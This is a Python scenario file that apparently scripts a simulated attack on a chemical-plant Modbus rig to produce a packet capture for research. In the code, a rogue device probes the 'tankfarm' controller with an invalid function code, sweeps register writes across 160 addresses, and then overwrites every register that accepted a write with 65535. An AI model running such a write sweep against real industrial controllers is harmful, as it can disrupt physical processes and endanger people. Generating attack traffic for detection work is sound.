"""A device in the cell does not know the controller's map and finds out by writing to every address."""

from __future__ import annotations

import contextlib

from pymodbus.exceptions import ModbusException

from pcaps.scenarios.rig.layout import CHEM
from pcaps.scenarios.rig.operations import chem_masters
from pcaps.scenarios.rig.scenario import Scenario
from pcaps.scenarios.rig.stage import Stage, hear, make_adu, open_socket


async def attack(stage: Stage) -> None:
    """Try a function no device has, then write one value to 160 addresses, then to all that took it again."""
    await stage.until(40)
    stage.mark()
    async with open_socket(CHEM.host("tankfarm").ip) as (reader, writer):
        writer.write(make_adu(1, 1, b"\x64\x00\x00"))
        await hear(reader)
    await stage.until(50)
    stage.mark()
    taken = []
    async with stage.connect(CHEM.host("tankfarm").ip) as client:
        for address in range(160):
            with contextlib.suppress(ModbusException):
                answer = await client.write_register(address, 1, device_id=1)
                if not answer.isError():
                    taken.append(address)
            await stage.wait(0.2)
        stage.mark()
        for address in taken:
            await client.write_register(address, 65535, device_id=1)
            await stage.wait(0.2)


SCENARIO = Scenario(
    file="write_sweep.pcap",
    enterprise="chem",
    duration_s=140,
    time_scale=6,
    seed=23,
    masters=chem_masters(slack=2),
    acts={"implant": attack},
    strangers=("implant",),
)
